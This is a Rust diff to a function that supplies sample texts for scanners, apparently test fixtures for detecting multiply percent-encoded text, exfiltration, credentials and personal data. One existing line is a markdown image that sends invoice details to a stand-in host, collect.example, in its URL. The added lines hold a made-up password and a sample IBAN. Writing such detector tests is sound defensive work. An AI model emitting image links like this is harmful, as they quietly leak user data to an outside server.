@@ -12,6 +12,10 @@ pub fn text_for(scanner: &str) -> Option<&'static str> {
         "encoding" => Some("Invoice %2525252525252525252525252569 is due on Friday."),
         // An image that would send the words to whoever owns the host.
         "exfiltration" => Some("![](https://collect.example/i.png?d=the%20total%20of%20invoice%204711)"),
+        // Made up for this line.
+        "credential" => Some("The deploy user logs in with password = \"kV7!mq2Lz9\" until Friday."),
+        // The account that the registry of IBANs prints for Germany.
+        "personal" => Some("Please pay to DE89 3704 0044 0532 0130 00 until Friday."),
         _ => None,
     }
 }
